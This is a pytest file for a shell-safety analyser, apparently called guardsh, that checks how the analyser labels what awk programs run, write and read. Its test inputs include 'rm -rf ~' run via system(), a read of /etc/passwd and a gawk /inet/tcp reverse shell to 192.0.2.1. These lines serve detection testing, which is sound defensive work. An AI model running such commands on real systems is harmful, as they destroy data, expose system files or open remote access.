"""awk programs: what they run, write and read."""

from __future__ import annotations

import pytest

from guardsh.languages import read
from guardsh.reading.model import Effect
from tests.languages.support import acts, context

CASES = [
    ('BEGIN{system("rm -rf ~")}', ["$ rm -rf ~"]),
    ('{ system("rm " $1) }', ["$ rm …"]),
    ('{ cmd = "rm " $2 ".bak"; system(cmd) }', ["$ rm ….bak"]),
    ("{ system($0) }", ["run unknown …"]),
    ('BEGIN { "id" | getline x; print x }', ["$ id"]),
    ('BEGIN { while (("ls " d) | getline f) n++ }', ["$ ls …"]),
    ('{ print $1 | "sort -u" }', ["$ sort -u"]),
    (
        '{ print $1 > "out.txt"; print $2 >> "log"; print $3 > $1 ".csv" }',
        ["overwrite out.txt", "append log", "overwrite ….csv"],
    ),
    ('{ printf "%s\\n", $1 > "/dev/stderr" }', []),
    ('BEGIN { while ((getline line < "/etc/passwd") > 0) print line }', ["read /etc/passwd"]),
    ('@include "x.awk"\n{ print }', ["< x.awk"]),
    (
        'BEGIN { s = "/inet/tcp/0/192.0.2.1/9"; while (1) { s |& getline c; while (c |& getline) print $0 |& s } }',
        ["run reverse-shell 192.0.2.1:9", "run unknown …"],
    ),
    # ordinary work
    ("NR > 1 && $3 > 100 { print $1, $2; total += $3 } END { print total }", []),
    ('/system\\("rm"\\)/ { print }', []),
    ("{ print (a > b) ? a : b }", []),
    ('{ gsub(/"/, ""); print "system(1)" } # system("x")', []),
    ('BEGIN { FS = "," } { print $NF }', []),
    ("$1 ~ /a|b/ || $2 { print length($0) }", []),
    ("…", ["run unreadable"]),
]


@pytest.mark.parametrize(("code", "found"), CASES)
def test_what_it_does(code: str, found: list[str]) -> None:
    assert sorted(acts("awk", code)) == sorted(found)


@pytest.mark.parametrize(
    "code", ["(" * 5_000, '"' * 5_001, "system(" * 3_000, "/" * 4_001, "$" * 4_000, "| getline " * 2_000, "\x00"]
)
def test_it_never_raises_and_stays_bounded(code: str) -> None:
    for act in read("awk", code, context()):
        assert isinstance(act, Effect)
